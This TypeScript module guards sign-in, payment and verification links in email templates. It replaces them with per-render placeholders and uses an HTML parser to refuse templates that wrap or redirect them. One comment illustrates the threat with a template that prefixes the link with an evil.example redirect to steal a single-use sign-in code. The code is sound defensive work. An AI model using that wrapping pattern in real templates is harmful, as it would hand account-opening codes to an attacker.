import { randomBytes } from 'node:crypto';
import { Parser } from 'htmlparser2';
import { TemplateError, type RenderedParts } from './engine';

/**
 * Links a template may place but never change (issue 31). A sign-in or reset link carries a
 * single-use code that opens an account; the card-payment and verification links send members
 * where they pay or check a certificate. Were Liquid to see them, a template could wrap them
 * (`https://evil.example/r?{{ link }}`, `{{ link | prepend: … }}`) and send the code, or the
 * member, elsewhere.
 *
 * So Liquid never sees them: each is replaced by an opaque placeholder of its own, unguessable
 * per render, and after rendering the placeholder must stand on its own, or the message is
 * refused:
 * - in the text, at the start or after white space, `<` or `(` (nothing a mail client would read
 *   as the start of another address);
 * - in the HTML, as the whole `href` of an `<a>` or as a whole text node (read by a maintained
 *   HTML parser, not by pattern, so a quote or an attribute cannot hide a prefix);
 * - never in the subject.
 * Only then is the real address put in its place (escaped in the HTML). A filter applied to a
 * placeholder yields something that is no longer one, so the link is missing and the template is
 * refused for that (the sign-in kinds must carry their link).
 */

/** The variables that hold guarded links, by their path in the variables. */
const guardedPaths = [['link'], ['invoice', 'cardPaymentUrl'], ['certificate', 'verificationUrl']];

type GuardedLink = { path: string; placeholder: string; url: string };

export type GuardedVariables = {
  /** The variables with each guarded link replaced by its placeholder. */
  variables: Record<string, unknown>;
  links: GuardedLink[];
};

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** Replaces each guarded link present in `variables` by a placeholder (a copy; the input stays). */
export function withLinkPlaceholders(variables: Record<string, unknown>): GuardedVariables {
  const nonce = randomBytes(9).toString('hex');
  const links: GuardedLink[] = [];
  const copy: Record<string, unknown> = { ...variables };
  guardedPaths.forEach((path, index) => {
    let holder: Record<string, unknown> = copy;
    for (const key of path.slice(0, -1)) {
      const next = holder[key];
      if (!isRecord(next)) return;
      holder[key] = { ...next };
      holder = holder[key] as Record<string, unknown>;
    }
    const key = path.at(-1) as string;
    const url = holder[key];
    if (typeof url !== 'string' || url === '') return;
    const placeholder = `OPSLINK${nonce}X${index}`;
    holder[key] = placeholder;
    links.push({ path: path.join('.'), placeholder, url });
  });
  return { variables: copy, links };
}

function occurrences(text: string, token: string): number[] {
  const positions: number[] = [];
  for (let at = text.indexOf(token); at !== -1; at = text.indexOf(token, at + token.length)) {
    positions.push(at);
  }
  return positions;
}

const textBoundary = /[\s<(]/;

/** The attributes an <a> with a guarded href may have. */
const linkAttributes = new Set([
  'href',
  'style',
  'class',
  'title',
  'target',
  'rel',
  'id',
  'lang',
  'dir',
]);

function refuse(part: 'subject' | 'text' | 'html', link: GuardedLink, how: string): never {
  throw new TemplateError(
    part,
    null,
    `{{ ${link.path} }} must ${how}: a template cannot change where it leads.`,
    'template-link',
  );
}

/** Where each placeholder of the HTML stands: whole `href` values of links, whole text nodes. */
function placesInHtml(html: string, placeholders: readonly string[]): Map<string, number> {
  const accepted = new Map<string, number>(placeholders.map((token) => [token, 0]));
  const rawTextElements = new Set(['script', 'style', 'title', 'textarea', 'noscript']);
  // Open elements with, for an <a>, its href: a placeholder shown as text inside a link must be
  // that link's own (no <a href="https://elsewhere">{{ link }}</a> dressing a lookalike).
  const open: { name: string; href: string | undefined }[] = [];
  let text = '';
  const flushText = () => {
    const trimmed = text.trim();
    text = '';
    if (!accepted.has(trimmed)) return;
    if (open.some((element) => rawTextElements.has(element.name))) return;
    const link = open.findLast((element) => element.name === 'a');
    if (link && link.href !== trimmed) return;
    accepted.set(trimmed, (accepted.get(trimmed) ?? 0) + 1);
  };
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        flushText();
        open.push({ name, href: attributes.href });
        if (name !== 'a') return;
        const href = attributes.href;
        // A guarded link's <a> carries presentation only: no ping, no event handler, nothing
        // that could send the address elsewhere when it is clicked.
        const onlyPresentation = Object.keys(attributes).every((attribute) =>
          linkAttributes.has(attribute),
        );
        if (href !== undefined && accepted.has(href) && onlyPresentation) {
          accepted.set(href, (accepted.get(href) ?? 0) + 1);
        }
      },
      onclosetag() {
        flushText();
        open.pop();
      },
      ontext(chunk) {
        text += chunk;
      },
      oncomment() {
        flushText();
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  flushText();
  return accepted;
}

function escapeHtml(value: string): string {
  return value
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;');
}

/**
 * A plain text made from the HTML (issue 32) with each placeholder set apart from a word run
 * against it: the HTML check already took the placeholder as a whole href or a whole text node,
 * so what precedes it in the text is another element's words, and a space keeps them apart. A
 * text written by an operator never goes through here: there, such a placeholder is refused.
 */
export function setLinksApart(text: string, links: readonly GuardedLink[]): string {
  let result = text;
  for (const link of links) {
    const parts = result.split(link.placeholder);
    result = parts.reduce((joined, part, index) => {
      if (index === 0) return part;
      const before = joined.charAt(joined.length - 1);
      const gap = joined === '' || textBoundary.test(before) ? '' : ' ';
      return `${joined}${gap}${link.placeholder}${part}`;
    }, '');
  }
  return result;
}

/**
 * Checks where each placeholder stands and puts the real links in their place. Throws a
 * `TemplateError` (rule `template-link`) when a placeholder stands anywhere else.
 */
export function placeGuardedLinks(
  rendered: RenderedParts,
  links: readonly GuardedLink[],
): RenderedParts {
  if (links.length === 0) return rendered;
  const htmlPlaces = placesInHtml(
    rendered.html,
    links.map((link) => link.placeholder),
  );
  let { text, html } = rendered;
  for (const link of links) {
    if (rendered.subject.includes(link.placeholder))
      refuse('subject', link, 'stay out of the subject');
    for (const at of occurrences(text, link.placeholder)) {
      if (at > 0 && !textBoundary.test(text.charAt(at - 1))) {
        refuse('text', link, 'stand on its own in the text, after a space or a line break');
      }
    }
    if (occurrences(html, link.placeholder).length !== htmlPlaces.get(link.placeholder)) {
      refuse('html', link, 'be the whole href of a link (<a href="{{ … }}">) or a text of its own');
    }
    text = text.replaceAll(link.placeholder, link.url);
    html = html.replaceAll(link.placeholder, escapeHtml(link.url));
  }
  return { subject: rendered.subject, text, html };
}
